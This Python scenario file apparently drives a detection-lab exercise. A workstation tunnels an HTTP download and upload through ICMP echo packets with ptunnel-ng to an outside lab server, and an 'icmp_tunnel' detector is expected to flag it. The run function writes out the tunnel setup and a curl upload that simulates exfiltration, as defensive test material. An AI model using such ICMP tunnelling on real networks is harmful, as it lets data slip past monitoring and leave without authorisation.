"""ptunnel-ng: TCP carried in echo requests and replies."""
import services
from catalogue import PING_SERVER

TITLE = "An ICMP tunnel"
START = "2026-11-24 15:50:00"
STORY = """A workstation pings the gateway a few times, as people do; then it carries a web download of 150 kB and an upload of 60 kB in echo
requests and replies to a server outside with ptunnel-ng."""
EXPECT = [{"detector": "icmp_tunnel", "attacker": "pc-labo"}]
ALLOWED = []


def run(lab):
    inet, pc = lab.internet, lab.host("pc-labo")
    services.outside(lab, form=True)
    inet.file("www/butin.bin", bytes(range(256)) * 600)
    inet.run("sysctl", "-qw", "net.ipv4.icmp_echo_ignore_all=1")
    inet.start("ptunnel-ng", "-r127.0.0.1", "-R80")
    lab.record()
    pc.run("ping", "-c", "4", "-i", "0.3", lab.gateway.ip)
    lab.skip(60)
    pc.start("ptunnel-ng", f"-p{PING_SERVER}", "-l8000", "-r127.0.0.1", "-R80")
    pc.wait_port(8000)
    pc.run("curl", "-s", "-m", "60", "-o", "/dev/null", "http://127.0.0.1:8000/butin.bin", timeout=70)
    up = pc.file("up.bin", bytes(range(256)) * 240)
    pc.run("curl", "-s", "-m", "60", "-o", "/dev/null", "-H", "Expect:", "--data-binary", f"@{up}", "http://127.0.0.1:8000/connexion", check=False, timeout=70)
    lab.pause(1)
